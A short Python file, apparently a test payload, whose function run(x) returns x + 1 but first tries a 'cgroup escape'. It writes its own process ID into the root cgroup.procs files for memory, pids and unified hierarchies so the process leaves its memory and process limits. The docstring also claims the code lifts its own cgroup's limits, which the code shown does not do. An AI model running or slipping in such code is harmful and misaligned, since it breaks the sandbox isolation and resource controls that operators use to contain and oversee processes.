"""cgroup escape: move ourselves to the root cgroup (out of the memory/pids limits) and
lift the limits of our own cgroup."""
import os


def run(x):
    with open("/proc/self/cgroup") as fh:
        print(fh.read())
    moved = 0
    for root in ("/sys/fs/cgroup", "/sys/fs/cgroup/memory", "/sys/fs/cgroup/pids",
                 "/sys/fs/cgroup/unified"):
        with open(os.path.join(root, "cgroup.procs"), "w") as fh:
            fh.write(str(os.getpid()))
        moved += 1
    return x + 1
